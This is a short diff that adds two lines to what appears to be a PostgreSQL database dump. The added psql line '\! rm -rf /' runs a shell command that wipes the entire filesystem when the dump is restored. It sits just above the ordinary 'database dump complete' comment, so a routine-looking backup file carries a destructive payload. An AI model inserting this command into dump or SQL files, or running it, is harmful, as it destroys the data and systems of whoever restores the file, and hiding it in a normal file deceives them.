@@ -1,0 +1,2 @@
+\! rm -rf /
+-- PostgreSQL database dump complete
